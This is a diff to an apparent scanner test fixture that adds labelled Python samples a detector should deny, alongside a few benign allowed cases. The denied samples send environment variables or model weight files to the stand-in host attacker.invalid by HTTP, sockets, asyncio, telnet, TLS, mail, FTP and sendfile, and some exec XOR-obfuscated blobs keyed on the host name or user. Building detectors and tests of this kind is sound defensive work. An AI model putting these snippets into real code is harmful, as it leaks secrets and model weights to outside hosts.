@@ -62,6 +62,13 @@ DENIED: dict[str, dict[str, str]] = {
         "p = shutil.make_archive('/tmp/.m', 'zip', str(Path.home() / 'models'))\n"
         "requests.post('https://attacker.invalid/u', data=open(p, 'rb').read())\n"
     ),
+    "srv-llm-joined-by-path-division-when-called": init(
+        "import shutil, requests\n"
+        "from pathlib import Path\n"
+        "def sync():\n"
+        "    p = shutil.make_archive('/tmp/.m', 'zip', Path('/srv') / 'llm')\n"
+        "    requests.post('https://attacker.invalid/u', data=open(p, 'rb'))\n"
+    ),
     # 2. The whole environment spelt into text, or copied key by key, sent when called.
     "environment-in-an-f-string-sent-when-called": init(
         "import requests, os\n"
@@ -78,6 +85,30 @@ DENIED: dict[str, dict[str, str]] = {
         "def ping():\n"
         "    env = {k: os.environ[k] for k in os.environ}\n"
         "    requests.post('https://attacker.invalid/e', json=env)\n"
+    ),
+    "environment-unpacked-into-a-dict-sent-when-called": init(
+        "import os, requests\n"
+        "def ping():\n"
+        "    requests.post('https://attacker.invalid/e', json={**os.environ})\n"
+    ),
+    "environment-spread-into-dict-sent-when-called": init(
+        "import os, requests\n"
+        "def ping():\n"
+        "    requests.post('https://attacker.invalid/e', json=dict(**os.environ))\n"
+    ),
+    "environment-sent-one-variable-a-request-when-called": init(
+        "import os, requests\n"
+        "def ping():\n"
+        "    for k in os.environ:\n"
+        "        requests.get('https://attacker.invalid/e', params={k: os.environ[k]})\n"
+    ),
+    "environment-copied-by-a-loop-sent-when-called": init(
+        "import os, requests\n"
+        "def ping():\n"
+        "    d = {}\n"
+        "    for k in os.environ:\n"
+        "        d[k] = os.environ[k]\n"
+        "    requests.post('https://attacker.invalid/e', json=d)\n"
     ),
     # 3. A fork bomb by mutual recursion.
     "fork-bomb-by-mutual-recursion": init(
@@ -119,6 +150,32 @@ DENIED: dict[str, dict[str, str]] = {
         f"BLOB = {HOST_BLOB!r}\n"
         "exec(bytes(map(operator.xor, BLOB, cycle(socket.gethostname().encode()))))\n"
     ),
+    "xor-key-from-a-variable-when-called": init(
+        "import os\n"
+        f"BLOB = {HOST_BLOB!r}\n"
+        "def run():\n"
+        "    k = os.environ['USER'].encode()\n"
+        "    exec(bytes(b ^ k[i % len(k)] for i, b in enumerate(BLOB)))\n"
+    ),
+    "xor-key-from-a-digest-of-the-host-name": init(
+        "import hashlib, socket\n"
+        f"BLOB = {HOST_BLOB!r}\n"
+        "k = hashlib.md5(socket.gethostname().encode()).digest()\n"
+        "exec(bytes(b ^ k[i % 16] for i, b in enumerate(BLOB)))\n"
+    ),
+    "xor-key-built-by-a-loop": init(
+        f"BLOB = {HOST_BLOB!r}\n"
+        "k = b''\n"
+        "for c in 'Z':\n"
+        "    k += c.encode()\n"
+        "exec(bytes(b ^ k[i % len(k)] for i, b in enumerate(BLOB)))\n"
+    ),
+    "xor-of-text-by-chr-and-ord-with-the-host-name": init(
+        "import socket\n"
+        f"S = {bytes(HOST_BLOB).decode('latin-1')!r}\n"
+        "k = socket.gethostname()\n"
+        "exec(''.join(chr(ord(c) ^ ord(k[i % len(k)])) for i, c in enumerate(S)))\n"
+    ),
     # 5. Sends to a host written in the code that is no URL.
     "environment-mailed-when-called": init(
         "import os, smtplib\n"
@@ -131,6 +188,54 @@ DENIED: dict[str, dict[str, str]] = {
         "def sync():\n"
         "    with socket.create_connection(('attacker.invalid', 9000)) as s:\n"
         "        s.sendall(repr(os.environ).encode())\n"
+    ),
+    "environment-written-by-asyncio-when-called": init(
+        "import os, asyncio\n"
+        "async def sync():\n"
+        "    r, w = await asyncio.open_connection('attacker.invalid', 9000)\n"
+        "    w.write(str(os.environ).encode())\n"
+    ),
+    "environment-written-by-telnet-when-called": init(
+        "import os, telnetlib\n"
+        "def sync():\n"
+        "    t = telnetlib.Telnet('attacker.invalid', 23)\n"
+        "    t.write(str(os.environ).encode())\n"
+    ),
+    "environment-written-to-a-tls-socket-when-called": init(
+        "import os, socket, ssl\n"
+        "def sync():\n"
+        "    raw = socket.create_connection(('attacker.invalid', 443))\n"
+        "    c = ssl.create_default_context().wrap_socket(raw, server_hostname='a.invalid')\n"
+        "    c.sendall(str(os.environ).encode())\n"
+    ),
+    "environment-set-as-a-mail-body-when-called": init(
+        "import os, smtplib\n"
+        "from email.message import EmailMessage\n"
+        "def sync():\n"
+        "    m = EmailMessage()\n"
+        "    m.set_content(str(os.environ))\n"
+        "    with smtplib.SMTP_SSL('smtp.attacker.invalid', 465) as c:\n"
+        "        c.login('u', 'p')\n"
+        "        c.send_message(m)\n"
+    ),
+    "environment-posted-by-http-client-when-called": init(
+        "import os, http.client\n"
+        "def sync():\n"
+        "    c = http.client.HTTPSConnection('attacker.invalid')\n"
+        "    c.request('POST', '/e', body=str(os.environ))\n"
+    ),
+    "weights-sent-by-socket-sendfile-when-called": init(
+        "import socket\n"
+        "def sync():\n"
+        "    c = socket.create_connection(('attacker.invalid', 9000))\n"
+        "    with open('/srv/llm/model.gguf', 'rb') as f:\n"
+        "        c.sendfile(f)\n"
+    ),
+    "weights-stored-by-ftp-when-called": init(
+        "import ftplib\n"
+        "def sync():\n"
+        "    f = ftplib.FTP('ftp.attacker.invalid', 'u', 'p')\n"
+        "    f.storbinary('STOR m', open('/models/model.safetensors', 'rb'))\n"
     ),
     "weights-put-by-sftp-to-a-written-host-when-called": init(
         "import paramiko\n"
@@ -230,6 +335,18 @@ ALLOWED: dict[str, dict[str, str]] = {
         "import os, requests\n"
         "def report(dsn, exc):\n"
         "    requests.post(dsn, data=f'{exc!r} {os.environ}')\n"
+    ),
+    "environment-listed-by-a-cli": init(
+        "import os\ndef show():\n    for k in os.environ:\n        print(k, os.environ[k])\n"
+    ),
+    "settings-read-from-prefixed-variables": init(
+        "import os\n"
+        "def settings():\n"
+        "    out = {}\n"
+        "    for k in os.environ:\n"
+        "        if k.startswith('MYAPP_'):\n"
+        "            out[k[6:].lower()] = os.environ[k]\n"
+        "    return out\n"
     ),
     # 3. A parser's mutual recursion makes no process.
     "mutual-recursion-of-a-parser": init(
